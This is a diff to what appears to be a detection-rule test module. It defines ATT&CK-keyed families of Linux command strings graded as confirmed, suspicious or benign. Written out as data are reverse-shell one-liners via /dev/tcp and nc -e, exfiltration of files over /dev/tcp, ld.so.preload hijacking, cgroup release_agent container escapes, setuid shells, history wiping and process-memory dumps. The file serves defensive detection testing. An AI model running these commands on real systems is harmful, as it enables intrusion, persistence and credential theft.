@@ -6,7 +6,7 @@ Sources: ATT&CK's matrices for Linux and for Containers; each family's rule name
 from __future__ import annotations
 
 from tasks.families.story import HOST, Family
-from tasks.families.tellings import Row, made, start
+from tasks.families.tellings import Row, Telling, each, file, made, order, start
 
 BASH, SSHD = "/usr/bin/bash", "/usr/sbin/sshd"
 _SHELLS = ("/usr/bin/bash", "/usr/bin/sh")
@@ -20,19 +20,9 @@ def sh(text: str, parent: str = SSHD) -> Row:
     return start(BASH, f"bash -c '{text}'", parent)
 
 
-def run(path: str, arguments: str) -> Row:
+def _run(path: str, arguments: str) -> Row:
     """Describe the start of a program with arguments by a shell."""
-    return start(path, f"{path[path.rfind('/') + 1 :]} {arguments}", BASH)
-
-
-def wrote(path: str, writer: str | tuple[str, ...], activity: str = "create") -> Row:
-    """Describe a file that a program writes."""
-    return Row("file", activity, {"file_path": path, "process_path": writer})
-
-
-def _each(rows: list[Row]) -> list[list[Row]]:
-    """Make a telling of each row."""
-    return [[row] for row in rows]
+    return order(path, arguments, parent=BASH)
 
 
 def _connect(host: str, use: str) -> str:
@@ -55,11 +45,9 @@ _UNITS = (
 )
 
 
-def _written(paths: tuple[str, ...], writers: tuple[str, ...]) -> list[list[Row]]:
+def _written(paths: tuple[str, ...], writers: tuple[str, ...]) -> list[Telling]:
     """Tell of each path that one of some programs makes it or changes it."""
-    return [
-        [wrote(path, writer, activity)] for path in paths for writer in writers for activity in ("create", "modify")
-    ]
+    return [[file(path, writer, activity)] for path in paths for writer in writers for activity in ("create", "modify")]
 
 
 FAMILIES: tuple[Family, ...] = (
@@ -68,32 +56,26 @@ FAMILIES: tuple[Family, ...] = (
         "T1059.004",
         "execution",
         ("shell-over-network",),
-        confirmed=_each(
-            [
-                sh("bash -i >& /dev/tcp/{address}/443 0>&1"),
-                sh("sh -i >& /dev/tcp/{other_ip}/8080 0>&1"),
-                sh("cat < /dev/tcp/{domain}/80 | bash"),
-                run("/usr/bin/nc", "{address} 443 -e /bin/sh"),
-                run("/usr/bin/python3", f"-c '{_connect('{domain}', _TIED)}'"),
-            ]
+        confirmed=each(
+            sh("bash -i >& /dev/tcp/{address}/443 0>&1"),
+            sh("sh -i >& /dev/tcp/{other_ip}/8080 0>&1"),
+            sh("cat < /dev/tcp/{domain}/80 | bash"),
+            _run("/usr/bin/nc", "{address} 443 -e /bin/sh"),
+            _run("/usr/bin/python3", f"-c '{_connect('{domain}', _TIED)}'"),
         ),
-        suspicious=_each(
-            [
-                sh("bash -i >& /dev/tcp/127.0.0.1/443 0>&1"),
-                sh("tar c /srv/{word} > /dev/tcp/{address}/80"),
-                sh("cat /srv/{word} > /dev/tcp/{domain}/80"),
-                run("/usr/bin/nc", "127.0.0.1 443 -e /bin/sh"),
-                run("/usr/bin/python3", f"-c '{_connect('{address}', _SENT)}'"),
-            ]
+        suspicious=each(
+            sh("bash -i >& /dev/tcp/127.0.0.1/443 0>&1"),
+            sh("tar c /srv/{word} > /dev/tcp/{address}/80"),
+            sh("cat /srv/{word} > /dev/tcp/{domain}/80"),
+            _run("/usr/bin/nc", "127.0.0.1 443 -e /bin/sh"),
+            _run("/usr/bin/python3", f"-c '{_connect('{address}', _SENT)}'"),
         ),
-        below=_each(
-            [
-                sh("echo > /dev/tcp/{address}/443"),
-                sh("tar c /srv/{word} > /dev/tcp/{other_ip}/80"),
-                sh("cat /srv/{word} > /dev/tcp/localhost/80"),
-                run("/usr/bin/nc", "-zv {address} 443"),
-                run("/usr/bin/python3", f"-c '{_connect('{other_ip}', _SENT)}'"),
-            ]
+        below=each(
+            sh("echo > /dev/tcp/{address}/443"),
+            sh("tar c /srv/{word} > /dev/tcp/{other_ip}/80"),
+            sh("cat /srv/{word} > /dev/tcp/localhost/80"),
+            _run("/usr/bin/nc", "-zv {address} 443"),
+            _run("/usr/bin/python3", f"-c '{_connect('{other_ip}', _SENT)}'"),
         ),
         reaches=HOST,
         platform="linux",
@@ -103,26 +85,20 @@ FAMILIES: tuple[Family, ...] = (
         "T1574.006",
         "privilege_escalation",
         ("library-preloaded",),
-        confirmed=_each(
-            [
-                sh("echo /tmp/{word}.so | tee -a /etc/ld.so.preload"),
-                sh("cp /home/{user}/{word} /etc/ld.so.preload"),
-                sh("cp /dev/shm/{word} /etc/ld.so.preload"),
-            ]
+        confirmed=each(
+            sh("echo /tmp/{word}.so | tee -a /etc/ld.so.preload"),
+            sh("cp /home/{user}/{word} /etc/ld.so.preload"),
+            sh("cp /dev/shm/{word} /etc/ld.so.preload"),
         ),
-        suspicious=_each(
-            [
-                sh("echo /usr/lib/{word}.so | tee -a /etc/ld.so.preload"),
-                sh("LD_PRELOAD=/dev/shm/{word}.so /usr/bin/sudo -l"),
-                sh("LD_AUDIT=/tmp/{word}.so /usr/bin/passwd -S"),
-            ]
+        suspicious=each(
+            sh("echo /usr/lib/{word}.so | tee -a /etc/ld.so.preload"),
+            sh("LD_PRELOAD=/dev/shm/{word}.so /usr/bin/sudo -l"),
+            sh("LD_AUDIT=/tmp/{word}.so /usr/bin/passwd -S"),
         ),
-        below=_each(
-            [
-                sh("echo /tmp/{word}.so | grep -f /etc/ld.so.preload"),
-                sh("LD_PRELOAD=/usr/lib/{word}.so /usr/bin/sudo -l"),
-                sh("LD_AUDIT=/usr/lib/{word}.so /usr/bin/passwd -S"),
-            ]
+        below=each(
+            sh("echo /tmp/{word}.so | grep -f /etc/ld.so.preload"),
+            sh("LD_PRELOAD=/usr/lib/{word}.so /usr/bin/sudo -l"),
+            sh("LD_AUDIT=/usr/lib/{word}.so /usr/bin/passwd -S"),
         ),
         reaches=HOST,
         platform="linux",
@@ -157,26 +133,20 @@ FAMILIES: tuple[Family, ...] = (
         "T1547.006",
         "persistence",
         ("kernel-module-inserted",),
-        confirmed=_each(
-            [
-                run("/usr/sbin/insmod", "/tmp/{word}.ko"),
-                run("/usr/sbin/insmod", "/home/{user}/{word}.ko"),
-                run("/usr/sbin/modprobe", "-d /dev/shm/{word} {word2}"),
-            ]
+        confirmed=each(
+            _run("/usr/sbin/insmod", "/tmp/{word}.ko"),
+            _run("/usr/sbin/insmod", "/home/{user}/{word}.ko"),
+            _run("/usr/sbin/modprobe", "-d /dev/shm/{word} {word2}"),
         ),
-        suspicious=_each(
-            [
-                run("/usr/sbin/insmod", "./{word}.ko"),
-                run("/usr/sbin/insmod", "/opt/{word}/{word2}.ko"),
-                run("/usr/sbin/modprobe", "-d /opt/{word} {word2}"),
-            ]
+        suspicious=each(
+            _run("/usr/sbin/insmod", "./{word}.ko"),
+            _run("/usr/sbin/insmod", "/opt/{word}/{word2}.ko"),
+            _run("/usr/sbin/modprobe", "-d /opt/{word} {word2}"),
         ),
-        below=_each(
-            [
-                run("/usr/sbin/insmod", "/lib/modules/6.1.0-18-amd64/extra/{word}.ko"),
-                run("/usr/sbin/insmod", "/usr/lib/modules/5.15.0-105/updates/{word}.ko"),
-                run("/usr/sbin/modprobe", "-v {word}"),
-            ]
+        below=each(
+            _run("/usr/sbin/insmod", "/lib/modules/6.1.0-18-amd64/extra/{word}.ko"),
+            _run("/usr/sbin/insmod", "/usr/lib/modules/5.15.0-105/updates/{word}.ko"),
+            _run("/usr/sbin/modprobe", "-v {word}"),
         ),
         reaches=HOST,
         platform="linux",
@@ -186,21 +156,17 @@ FAMILIES: tuple[Family, ...] = (
         "T1548.001",
         "privilege_escalation",
         ("setuid-shell",),
-        confirmed=_each(
-            [
-                run("/usr/bin/chmod", "u+s /bin/bash"),
-                run("/usr/bin/chmod", "4755 /tmp/{word}"),
-                run("/usr/bin/chmod", "+s /var/tmp/{word}"),
-                run("/usr/bin/install", "-m 4755 /bin/sh /dev/shm/{word}"),
-            ]
+        confirmed=each(
+            _run("/usr/bin/chmod", "u+s /bin/bash"),
+            _run("/usr/bin/chmod", "4755 /tmp/{word}"),
+            _run("/usr/bin/chmod", "+s /var/tmp/{word}"),
+            _run("/usr/bin/install", "-m 4755 /bin/sh /dev/shm/{word}"),
         ),
-        below=_each(
-            [
-                run("/usr/bin/chmod", "u+x /bin/bash"),
-                run("/usr/bin/chmod", "0755 /tmp/{word}"),
-                run("/usr/bin/chmod", "+x /var/tmp/{word}"),
-                run("/usr/bin/install", "-m 0755 /bin/sh /dev/shm/{word}"),
-            ]
+        below=each(
+            _run("/usr/bin/chmod", "u+x /bin/bash"),
+            _run("/usr/bin/chmod", "0755 /tmp/{word}"),
+            _run("/usr/bin/chmod", "+x /var/tmp/{word}"),
+            _run("/usr/bin/install", "-m 0755 /bin/sh /dev/shm/{word}"),
         ),
         reaches=HOST,
         platform="linux",
@@ -210,27 +176,23 @@ FAMILIES: tuple[Family, ...] = (
         "T1070.003",
         "defense_evasion",
         ("shell-history-off",),
-        suspicious=_each(
-            [
-                sh("unset HISTFILE"),
-                sh("export HISTFILE=/dev/null"),
-                sh("export HISTSIZE=0"),
-                sh("set +o history"),
-                sh("ln -sf /dev/null /home/{user}/.bash_history"),
-                sh("rm -f /home/{user}/.bash_history"),
-                sh("shred -u /home/{user}/.zsh_history"),
-            ]
+        suspicious=each(
+            sh("unset HISTFILE"),
+            sh("export HISTFILE=/dev/null"),
+            sh("export HISTSIZE=0"),
+            sh("set +o history"),
+            sh("ln -sf /dev/null /home/{user}/.bash_history"),
+            sh("rm -f /home/{user}/.bash_history"),
+            sh("shred -u /home/{user}/.zsh_history"),
         ),
-        below=_each(
-            [
-                sh("unset {word}"),
-                sh("export HISTFILE=/home/{user}/{word}"),
-                sh("export HISTSIZE={number}"),
-                sh("set -o history"),
-                sh("ls -l /home/{user}/.bash_history"),
-                sh("rm -f /home/{user}/{word}"),
-                sh("wc -l /home/{user}/.zsh_history"),
-            ]
+        below=each(
+            sh("unset {word}"),
+            sh("export HISTFILE=/home/{user}/{word}"),
+            sh("export HISTSIZE={number}"),
+            sh("set -o history"),
+            sh("ls -l /home/{user}/.bash_history"),
+            sh("rm -f /home/{user}/{word}"),
+            sh("wc -l /home/{user}/.zsh_history"),
         ),
         platform="linux",
     ),
@@ -239,27 +201,21 @@ FAMILIES: tuple[Family, ...] = (
         "T1611",
         "privilege_escalation",
         ("host-from-container",),
-        confirmed=_each(
-            [
-                sh("echo /{word} > /tmp/{word2}/release_agent"),
-                sh("echo /{word} > /sys/fs/cgroup/rdma/release_agent"),
-                sh("mount -t cgroup -o rdma cgroup /{word}; echo /{word2} > /{word}/release_agent"),
-            ]
+        confirmed=each(
+            sh("echo /{word} > /tmp/{word2}/release_agent"),
+            sh("echo /{word} > /sys/fs/cgroup/rdma/release_agent"),
+            sh("mount -t cgroup -o rdma cgroup /{word}; echo /{word2} > /{word}/release_agent"),
         ),
-        suspicious=_each(
-            [
-                sh("nsenter -t 1 -m -u -i -n sh"),
-                sh("docker run -v /:/{word} -it {word2} chroot /{word}"),
-                sh("podman run --privileged --volume /:/mnt {word} sh"),
-            ]
+        suspicious=each(
+            sh("nsenter -t 1 -m -u -i -n sh"),
+            sh("docker run -v /:/{word} -it {word2} chroot /{word}"),
+            sh("podman run --privileged --volume /:/mnt {word} sh"),
         ),
-        below=_each(
-            [
-                sh("nsenter -t {number} -m -u -i -n sh"),
-                sh("docker run -v /:/{word}:ro -it {word2} ls /{word}"),
-                sh("podman run --privileged --volume /srv:/mnt {word} sh"),
-                sh("mount -t cgroup -o rdma cgroup /{word}; cat /{word}/release_agent"),
-            ]
+        below=each(
+            sh("nsenter -t {number} -m -u -i -n sh"),
+            sh("docker run -v /:/{word}:ro -it {word2} ls /{word}"),
+            sh("podman run --privileged --volume /srv:/mnt {word} sh"),
+            sh("mount -t cgroup -o rdma cgroup /{word}; cat /{word}/release_agent"),
         ),
         reaches=HOST,
         platform="linux",
@@ -269,21 +225,17 @@ FAMILIES: tuple[Family, ...] = (
         "T1003.007",
         "credential_access",
         ("process-memory-copied",),
-        suspicious=_each(
-            [
-                run("/usr/bin/gcore", "-o /root/{word} {number}"),
-                run("/usr/bin/gdb", "-p {number} --batch -ex gcore"),
-                sh("dd if=/proc/{number}/mem of=/root/{word} bs=4096"),
-                sh("strings /proc/{number}/mem"),
-            ]
+        suspicious=each(
+            _run("/usr/bin/gcore", "-o /root/{word} {number}"),
+            _run("/usr/bin/gdb", "-p {number} --batch -ex gcore"),
+            sh("dd if=/proc/{number}/mem of=/root/{word} bs=4096"),
+            sh("strings /proc/{number}/mem"),
         ),
-        below=_each(
-            [
-                run("/usr/bin/gcore", "--help"),
-                run("/usr/bin/gdb", "-p {number} --batch -ex backtrace"),
-                sh("dd if=/proc/{number}/maps of=/root/{word} bs=4096"),
-                sh("strings /proc/{number}/environ"),
-            ]
+        below=each(
+            _run("/usr/bin/gcore", "--help"),
+            _run("/usr/bin/gdb", "-p {number} --batch -ex backtrace"),
+            sh("dd if=/proc/{number}/maps of=/root/{word} bs=4096"),
+            sh("strings /proc/{number}/environ"),
         ),
         platform="linux",
     ),
